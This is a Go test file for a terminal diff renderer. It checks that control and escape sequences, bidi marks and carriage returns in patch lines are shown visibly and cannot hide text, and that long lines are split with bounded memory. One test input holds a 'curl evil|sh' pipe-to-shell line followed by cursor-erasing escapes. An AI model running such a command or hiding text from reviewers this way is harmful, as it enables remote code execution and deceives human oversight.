package terminal

import (
	"slices"
	"strings"
	"testing"
)

// What a worker wrote cannot steer the terminal that a patch is shown on, and cannot
// hide in it.
func TestPatchOnATerminal(t *testing.T) {
	var out strings.Builder
	p := &Patch{w: &out, coloured: true}
	for _, part := range []string{
		"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,6 @@\n-old\n+curl evil|sh #\x1b[1A\x1b",
		"[2K\x1b[G\n+\x1b[8mhidden\x1b]0;title\x07\n+bidi \u202e and \xff\n+real\rfake\n+++ b/y\n \ttab\n\\ No newline\ndiff --git a/z b/z",
	} {
		if _, err := p.Write([]byte(part)); err != nil {
			t.Fatal(err)
		}
	}
	if err := p.End(); err != nil {
		t.Fatal(err)
	}
	reverse := func(name string) string { return "\x1b[7m" + name + "\x1b[27m" }
	esc := reverse("^[")
	want := headColour + "diff --git a/x b/x" + plainColour + "\n" +
		headColour + "--- a/x" + plainColour + "\n" + headColour + "+++ b/x" + plainColour + "\n" +
		hunkColour + "@@ -1,2 +1,6 @@" + plainColour + "\n" + cutColour + "-old" + plainColour + "\n" +
		addColour + "+curl evil|sh #" + esc + "[1A" + esc + "[2K" + esc + "[G" + plainColour + "\n" +
		addColour + "+" + esc + "[8mhidden" + esc + "]0;title" + reverse("^G") + plainColour + "\n" +
		addColour + `+bidi ` + reverse(`\u202e`) + ` and ` + reverse(`\xff`) + plainColour + "\n" +
		addColour + "+real" + reverse("^M") + "fake" + plainColour + "\n" +
		addColour + "+++ b/y" + plainColour + "\n" + // a line of the file, whatever it looks like
		" \ttab\n" + `\ No newline` + "\n" + headColour + "diff --git a/z b/z" + plainColour
	if out.String() != want {
		t.Errorf("shown:\n%q\nwant:\n%q", out.String(), want)
	}
}

// A line of any length is shown whole, in its colour, and no more than a part of it is kept.
func TestPatchWithALongLine(t *testing.T) {
	var out strings.Builder
	p := &Patch{w: &out, coloured: true}
	long := "+" + strings.Repeat("é", 3*longest) + "\x1b[8mhidden"
	text := "@@ -0,0 +1,2 @@\n" + long + "\n+next\n"
	for part := range slices.Chunk([]byte(text), 10_007) {
		if _, err := p.Write(part); err != nil {
			t.Fatal(err)
		}
		if len(p.line) > longest || cap(p.line) > 2*longest {
			t.Fatalf("%d bytes are kept", cap(p.line))
		}
	}
	if err := p.End(); err != nil {
		t.Fatal(err)
	}
	shown := out.String()
	if n := strings.Count(shown, addColour); n < 7 || n > 10 {
		t.Errorf("the long line is shown in %d parts", n-1)
	}
	plain := strings.NewReplacer(addColour, "", hunkColour, "", plainColour, "").Replace(shown)
	if want := strings.Replace(text, "\x1b", "\x1b[7m^[\x1b[27m", 1); plain != want {
		t.Errorf("%d bytes are shown, want %d", len(plain), len(want))
	}
}
